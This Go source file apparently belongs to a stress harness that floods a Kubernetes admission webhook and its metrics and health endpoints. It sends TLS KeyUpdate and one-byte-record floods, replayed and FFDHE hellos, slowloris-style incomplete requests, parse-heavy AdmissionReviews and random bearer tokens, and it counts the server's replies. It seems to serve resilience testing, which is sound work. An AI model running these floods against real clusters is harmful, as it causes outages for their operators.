package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/base64"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

const validatePath = "/validate-batch-tutorial-kubebuilder-io-v1-cronjob"

// The admission limit of controller-runtime, and a little less.
const largestReview = 7<<20 - 4096

// parallel runs `body` repeatedly in this number of goroutines until the context ends. A round that took no time at all,
// because the server is gone or rejects it at once, is followed by a pause.
func parallel(ctx context.Context, count int, body func(index int)) {
	var group sync.WaitGroup
	for index := range count {
		group.Add(1)
		go func() {
			defer group.Done()
			for ctx.Err() == nil {
				began := time.Now()
				body(index)
				if time.Since(began) < 10*time.Millisecond {
					pause(ctx, 10*time.Millisecond)
				}
			}
		}()
	}
	group.Wait()
}

func pause(ctx context.Context, length time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(length):
	}
}

func keyUpdates(ctx context.Context, at target) string {
	var connections, records atomic.Int64
	parallel(ctx, 4, func(index int) {
		raw, err := dialRawTLS(ctx, at.webhook, index)
		if err != nil {
			return
		}
		defer raw.conn.Close()
		connections.Add(1)
		for sent := 0; sent < 400_000 && ctx.Err() == nil; sent += 1000 {
			var batch []byte
			for range 1000 {
				batch = raw.appendKeyUpdate(batch)
			}
			if raw.write(ctx, batch) != nil {
				return
			}
			records.Add(1000)
		}
	})
	return fmt.Sprintf("%d connections, %d records", connections.Load(), records.Load())
}

// As many of them as a server allows without data, within the headers of a request that never ends.
func keyUpdatesBetweenData(ctx context.Context, at target) string {
	var connections, records atomic.Int64
	parallel(ctx, 4, func(index int) {
		raw, err := dialRawTLS(ctx, at.webhook, index)
		if err != nil {
			return
		}
		defer raw.conn.Close()
		connections.Add(1)
		begin := "POST " + validatePath + " HTTP/1.1\r\nHost: localhost\r\nX: "
		for sent := 0; ctx.Err() == nil; sent += 50 {
			var batch []byte
			for i := range 50 {
				letter := byte('x')
				if sent+i < len(begin) {
					letter = begin[sent+i]
				}
				batch = raw.appendRecord(batch, typeApplicationData, []byte{letter})
				for range 16 {
					batch = raw.appendKeyUpdate(batch)
				}
			}
			if raw.write(ctx, batch) != nil {
				return
			}
			records.Add(50 * 17)
		}
	})
	return fmt.Sprintf("%d connections, %d records", connections.Load(), records.Load())
}

func oneByteRecords(ctx context.Context, at target) string {
	var connections, records atomic.Int64
	const size = 6_000_000
	parallel(ctx, 24, func(index int) {
		raw, err := dialRawTLS(ctx, at.webhook, index%4)
		if err != nil {
			return
		}
		defer raw.conn.Close()
		connections.Add(1)
		head := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n",
			validatePath, size)
		if raw.write(ctx, raw.appendRecord(nil, typeApplicationData, []byte(head))) != nil {
			return
		}
		batch := make([]byte, 0, 2000*23)
		for sent := 0; sent < size && ctx.Err() == nil; sent += 2000 {
			batch = batch[:0]
			for range 2000 {
				batch = raw.appendRecord(batch, typeApplicationData, []byte{' '})
			}
			if raw.write(ctx, batch) != nil {
				return
			}
			records.Add(2000)
		}
	})
	return fmt.Sprintf("%d connections, %d records", connections.Load(), records.Load())
}

func replayedHellos(ctx context.Context, at target) string {
	return replay(ctx, at.webhook, recordHello(tls.CurveP384), 1)
}

func replayedHellosOfMany(ctx context.Context, at target) string {
	return replay(ctx, at.webhook, recordHello(tls.CurveP384), 200)
}

func ffdheHellos(ctx context.Context, at target) string {
	return replay(ctx, at.webhook, ffdhe8192Hello(), 1)
}

// replay sends the hello at 40 kB/s, on a connection each, and waits for the server's reply.
func replay(ctx context.Context, address string, hello []byte, addresses int) string {
	var sent, answered, refused atomic.Int64
	var group sync.WaitGroup
	places := make(chan struct{}, 1000)
	period := time.Second * time.Duration(len(hello)) / 40_000
	began := time.Now()
	ticker := time.NewTicker(period)
	defer ticker.Stop()
	for number := 0; ; number++ {
		select {
		case <-ctx.Done():
			group.Wait()
			// Fewer than were due: the machine is too busy for the attack, or 1,000 wait for the server.
			return fmt.Sprintf("%d of %d hellos of %d bytes, %d answered, %d rejected by an alert", sent.Load(),
				time.Since(began)/period, len(hello), answered.Load(), refused.Load())
		case <-ticker.C:
		}
		select {
		case places <- struct{}{}:
		default:
			continue
		}
		group.Add(1)
		go func() {
			defer func() { <-places; group.Done() }()
			conn, err := dial(ctx, address, number%addresses)
			if err != nil {
				return
			}
			defer conn.Close()
			_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
			if _, err := conn.Write(hello); err != nil {
				return
			}
			sent.Add(1)
			record := make([]byte, 1)
			if _, err := io.ReadFull(conn, record); err != nil {
				return
			}
			if record[0] == 21 {
				refused.Add(1)
			} else {
				answered.Add(1)
			}
		}()
	}
}

// review is an AdmissionReview of about this number of bytes whose object has `filler` repeatedly in its spec.
func review(schedule, before, filler, after string, size int) []byte {
	head := `{"kind":"AdmissionReview","apiVersion":"admission.k8s.io/v1","request":{"uid":"705ab4f5-6393-11e8-b7cc-42010a800002",` +
		`"kind":{"group":"batch.tutorial.kubebuilder.io","version":"v1","kind":"CronJob"},` +
		`"resource":{"group":"batch.tutorial.kubebuilder.io","version":"v1","resource":"cronjobs"},` +
		`"name":"attack","namespace":"default","operation":"CREATE","userInfo":{"username":"attacker"},` +
		`"object":{"apiVersion":"batch.tutorial.kubebuilder.io/v1","kind":"CronJob","metadata":{"name":"attack","namespace":"default"},` +
		`"spec":{"schedule":"` + schedule + `","jobTemplate":{"spec":{"template":{"spec":{"restartPolicy":"OnFailure","containers":[]}}}},`
	tail := `},"dryRun":true}}`
	var text bytes.Buffer
	text.WriteString(head + `"x":` + before)
	for room := size - text.Len() - len(after) - len(tail) - 16; room > len(filler)+1; room -= len(filler) + 1 {
		text.WriteString(filler + ",")
	}
	text.WriteString(strings.TrimSuffix(filler, ",") + after + "}" + tail)
	return text.Bytes()
}

// Bodies that need the most memory as trees, or the most time; also half as large, if the largest are rejected unread.
func largeReviews(ctx context.Context, at target) string {
	var bodies [][]byte
	for _, size := range []int{largestReview, 3 << 20} {
		bodies = append(bodies, review("*/5 * * * *", "[", `[]`, "]", size), review("*/5 * * * *", "[", `{"a":1}`, "]", size),
			review("*/5 * * * *", "{", `"k":""`, "}", size))
	}
	return postAtOnce(ctx, at, 9, bodies)
}

func longSchedules(ctx context.Context, at target) string {
	var bodies [][]byte
	for _, size := range []int{largestReview, 3 << 20} {
		for _, schedule := range []string{"x", "1,", "\\u0007"} {
			bodies = append(bodies, review(strings.Repeat(schedule, (size-1024)/len(schedule)), "[", "1", "]", 0))
		}
	}
	return postAtOnce(ctx, at, 9, bodies)
}

func postAtOnce(ctx context.Context, at target, count int, bodies [][]byte) string {
	var replies counts
	var largest atomic.Int64
	var next atomic.Int64
	clients := make([]*http.Client, count)
	for index := range clients {
		clients[index] = httpClient(index % 4)
	}
	parallel(ctx, count, func(index int) {
		body := bodies[int(next.Add(1))%len(bodies)]
		request, _ := http.NewRequestWithContext(ctx, "POST", "https://"+at.webhook+validatePath+"?timeout=10s", bytes.NewReader(body))
		request.Header.Set("Content-Type", "application/json")
		reply, err := clients[index].Do(request)
		if err != nil {
			replies.add("no reply")
			return
		}
		size, _ := io.Copy(io.Discard, reply.Body)
		reply.Body.Close()
		for old := largest.Load(); size > old && !largest.CompareAndSwap(old, size); old = largest.Load() {
		}
		replies.add(fmt.Sprint(reply.StatusCode))
	})
	return fmt.Sprintf("%s; largest reply %d bytes", replies.String(), largest.Load())
}

func incompleteHellos(ctx context.Context, at target) string {
	var opened, bytesSent atomic.Int64
	hello := incompleteHello(131_000)
	parallel(ctx, 512, func(index int) {
		address := at.webhook
		if index%2 == 1 {
			address = at.metrics
		}
		conn, err := dial(ctx, address, index%4)
		if err != nil {
			return
		}
		defer conn.Close()
		opened.Add(1)
		deadline, _ := ctx.Deadline()
		_ = conn.SetDeadline(deadline)
		n, err := conn.Write(hello)
		bytesSent.Add(int64(n))
		if err == nil {
			_, _ = io.Copy(io.Discard, conn)
		}
		pause(ctx, 200*time.Millisecond)
	})
	return fmt.Sprintf("%d connections, %d MB", opened.Load(), bytesSent.Load()/1_000_000)
}

func incompleteBodies(ctx context.Context, at target) string {
	var opened, bytesSent atomic.Int64
	body := bytes.Repeat([]byte{' '}, largestReview-1000)
	parallel(ctx, 60, func(index int) {
		var conn net.Conn
		var err error
		path := "/healthz"
		switch index % 3 {
		case 0:
			conn, err = dial(ctx, at.health, index%4)
		case 1:
			path = "/metrics"
			conn, err = dialTLS(ctx, at.metrics, index%4)
		default:
			path = validatePath
			conn, err = dialTLS(ctx, at.webhook, index%4)
		}
		if err != nil {
			return
		}
		defer conn.Close()
		opened.Add(1)
		deadline, _ := ctx.Deadline()
		_ = conn.SetDeadline(deadline)
		_, err = fmt.Fprintf(conn, "POST %s HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n",
			path, largestReview)
		if err == nil {
			var n int
			n, err = conn.Write(body)
			bytesSent.Add(int64(n))
		}
		if err == nil {
			_, _ = io.Copy(io.Discard, conn)
		}
		pause(ctx, 200*time.Millisecond)
	})
	return fmt.Sprintf("%d connections, %d MB", opened.Load(), bytesSent.Load()/1_000_000)
}

// Half of them have the form of JWTs.
func randomTokens(ctx context.Context, at target) string {
	var replies counts
	clients := make([]*http.Client, 32)
	for index := range clients {
		clients[index] = httpClient(index % 4)
	}
	parallel(ctx, len(clients), func(index int) {
		request, _ := http.NewRequestWithContext(ctx, "GET", "https://"+at.metrics+"/metrics", nil)
		token := fmt.Sprintf("%016x%016x", rand.Uint64(), rand.Uint64())
		if rand.IntN(2) == 0 {
			encode := base64.RawURLEncoding.EncodeToString
			token = encode([]byte(`{"alg":"RS256","kid":"a"}`)) + "." +
				encode(fmt.Appendf(nil, `{"iss":"https://kubernetes.default.svc","sub":"%s","exp":%d}`, token, time.Now().Unix()+3600)) +
				"." + encode([]byte(strings.Repeat(token, 8)))
		}
		request.Header.Set("Authorization", "Bearer "+token)
		reply, err := clients[index].Do(request)
		if err != nil {
			replies.add("no reply")
			return
		}
		_, _ = io.Copy(io.Discard, reply.Body)
		reply.Body.Close()
		replies.add(fmt.Sprint(reply.StatusCode))
	})
	return replies.String()
}

// A connection that is kept alive, from its own address.
func httpClient(from int) *http.Client {
	return &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{MaxConnsPerHost: 1,
		TLSClientConfig: &tls.Config{InsecureSkipVerify: true},
		DialContext: func(ctx context.Context, _, address string) (net.Conn, error) {
			return dial(ctx, address, from)
		}}}
}
